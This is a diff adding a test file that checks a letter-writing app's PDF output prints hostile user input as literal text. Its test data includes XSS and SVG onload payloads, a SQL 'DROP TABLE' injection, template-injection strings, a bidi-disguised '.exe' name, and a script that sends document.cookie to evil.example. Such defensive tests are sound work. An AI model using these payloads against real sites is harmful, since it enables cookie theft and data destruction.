@@ -1,0 +1,46 @@
+/**
+ * The letter prints the user's text as text (issue 7): markup typed into a name, an address or
+ * the hardship, and a right-to-left override, come out of the PDF as the characters typed.
+ * The same letter data feeds the HTML preview, where React escapes it (tests/browser/resilience.spec.ts).
+ */
+import { readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { analyze } from '@/lib/analyze';
+import { letterFromJson } from '@/lib/letter';
+import { renderPdf, squeeze } from '../pdf/render-pdf';
+import { HOSTILE_DIR } from './hostile-files';
+
+const json = {
+  ...(JSON.parse(readFileSync(`${HOSTILE_DIR}hardship-injection.json`, 'utf8')) as Record<string, unknown>),
+  lender: { name: '<script>alert("x")</script>', kind: 'licensed', contractNo: "1'; DROP TABLE loans; --" },
+  borrower: { name: '\u202Egnp.exe\u202C 王', address: '"><svg onload=alert(1)>' },
+};
+
+describe('hostile text in the letter PDF', () => {
+  it('markup and a bidi override are printed as the characters typed', async () => {
+    const analysed = analyze(json);
+    if (!analysed.ok) throw new Error(JSON.stringify(analysed.errors));
+    const made = letterFromJson(json, analysed.report, { language: 'en' });
+    if (!made.ok) throw new Error(made.message.en);
+    const pdf = await renderPdf(made.letter, 'hostile-text');
+    for (const text of ['<script>alert("x")</script>', "1'; DROP TABLE loans; --", '"><svg onload=alert(1)>', "</p><script>fetch('https://evil.example/?'+document.cookie)</script>${7*7}{{constructor.constructor('alert(1)')()}}"]) {
+      // Whole: a token longer than a line wraps instead of being cut off at the page edge.
+      expect(pdf.flat).toContain(squeeze(text));
+    }
+    // The override is kept and applied as in the HTML preview (the name reads as the borrower typed
+    // it, reversed); only the file name drops it, where it would disguise the extension.
+    expect(pdf.flat).toMatch(/exe\.png王|gnp\.exe王/);
+    expect(made.letter.fileName).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
+  });
+
+  it('a web address longer than a line is printed in full, with no hyphen added', async () => {
+    const url = `https://example.com/${'abcdefghij'.repeat(15)}/END`;
+    const withUrl = { ...json, letter: { hardship: url } };
+    const analysed = analyze(withUrl);
+    if (!analysed.ok) throw new Error(JSON.stringify(analysed.errors));
+    const made = letterFromJson(withUrl, analysed.report, { language: 'en' });
+    if (!made.ok) throw new Error(made.message.en);
+    const pdf = await renderPdf(made.letter, 'long-url');
+    expect(pdf.flat).toContain(url);
+  });
+});
